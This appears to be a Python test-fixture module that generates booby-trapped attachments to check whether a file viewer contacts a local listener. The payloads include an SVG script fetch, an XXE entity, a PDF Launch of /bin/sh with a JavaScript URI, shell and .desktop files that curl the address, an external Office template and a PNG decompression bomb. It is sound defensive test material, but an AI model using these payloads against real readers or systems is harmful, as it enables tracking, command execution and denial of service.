"""Attachments made to betray whoever opens them: each asks for an address in its own way."""

import io
import zlib

from PIL import Image


def hostile(address: str) -> dict[str, bytes]:
    """Name -> content; address: http://127.0.0.1:PORT, at which the test listens."""
    return {
        "linked.svg": _svg(f'<image href="{address}/image.png" width="9" height="9"/>'),
        "xlink.svg": _svg(f'<image xlink:href="{address}/x.svg" width="9" height="9"/>'),
        "script.svg": _svg(f'<script>fetch("{address}/script")</script>'),
        "styled.svg": _svg(
            f'<style>@import url("{address}/s.css"); * {{fill: url("{address}/f#p")}}</style>'
        ),
        "foreign.svg": _svg(
            f'<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{address}/y"/></foreignObject>'
        ),
        "entity.svg": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{address}/dtd">]>'.encode()
        + _svg("<text>&x;</text>"),
        "photo.jpg": _svg(f'<use href="{address}/disguised.svg#a"/>'),
        "page.html": _html(address),
        "page.pdf": _html(address),
        "opens.pdf": _pdf(f"/OpenAction << /S /URI /URI ({address}/open) >>"),
        "script.pdf": _pdf(f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{address}/js'\\)) >>"),
        "launch.pdf": _pdf(f"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd) /P ({address}) >> >>"),
        "submit.pdf": _pdf(f"/OpenAction << /S /SubmitForm /F << /FS /URL /F ({address}/form) >> >>"),
        "remote.pdf": _pdf(f"/OpenAction << /S /GoToR /F << /FS /URL /F ({address}/r.pdf) >> /D [0 /Fit] >>"),
        "stream.pdf": _pdf("", stream=f"/FS /URL /F << /FS /URL /F ({address}/stream) >>"),
        "cut.pdf": _pdf("")[:120],
        "loop.pdf": _pdf("/Pages 1 0 R"),
        "cut.png": _png(8, 8)[:40],
        "bomb.png": _png(40_000, 40_000),
        "shell.sh": f"#!/bin/sh\ncurl {address}/shell\n".encode(),
        "entry.desktop": f"[Desktop Entry]\nExec=curl {address}/desktop\n".encode(),
        "winword.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + address.encode() + bytes(600),
        "office.docx": b"PK\x03\x04"
        + f'TargetMode="External" Target="{address}/t.dotm"'.encode()
        + bytes(60),
        "playlist.m3u": f"#EXTM3U\n{address}/list\n".encode(),
    }


def _svg(inside: str) -> bytes:
    head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">'
    return f"{head}{inside}</svg>".encode()


def _html(address: str) -> bytes:
    return (
        f'<html><head><meta http-equiv="refresh" content="0;url={address}/refresh">'
        f'<link rel="stylesheet" href="{address}/css"><script src="{address}/js"></script></head>'
        f'<body onload="location=\'{address}/onload\'"><img src="{address}/img"><iframe src="{address}/frame">'
        "</iframe></body></html>"
    ).encode()


def _pdf(catalogue: str, *, stream: str = "") -> bytes:
    content = b"BT /F1 12 Tf 20 20 Td (Hello) Tj ET"
    font = b"<< /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Resources << /Font %s >> >>"
        % font,
        f"<< /Length {len(content)} {stream} >>\nstream\n".encode() + content + b"\nendstream",
    ]
    body, places = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, start=1):
        places.append(len(body))
        body += f"{number} 0 obj\n".encode() + each + b"\nendobj\n"
    table = b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    head = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    tail = f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{len(body)}\n%%EOF\n".encode()
    return body + head + table + tail


def plain_pdf() -> bytes:
    """A page that asks for nothing."""
    return _pdf("")


def _png(width: int, height: int) -> bytes:
    def part(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x06\x00\x00\x00"
    squeezer = zlib.compressobj(9)
    row = bytes(1 + width * 4)
    packed = b"".join(squeezer.compress(row) for _ in range(min(height, 400))) + squeezer.flush()
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", header) + part(b"IDAT", packed) + part(b"IEND", b"")


def photo(kind: str, *, canary: str) -> bytes:
    """A picture whose metadata names somebody."""
    picture, exif = Image.new("RGB", (120, 80), (180, 40, 40)), Image.Exif()
    exif[0x010E] = canary
    exif[0x9003] = "2026:11:20 03:00:00"
    into = io.BytesIO()
    if kind == "gif":
        picture.save(into, kind, comment=canary.encode())
    else:
        picture.save(into, kind, exif=exif)
    return into.getvalue()
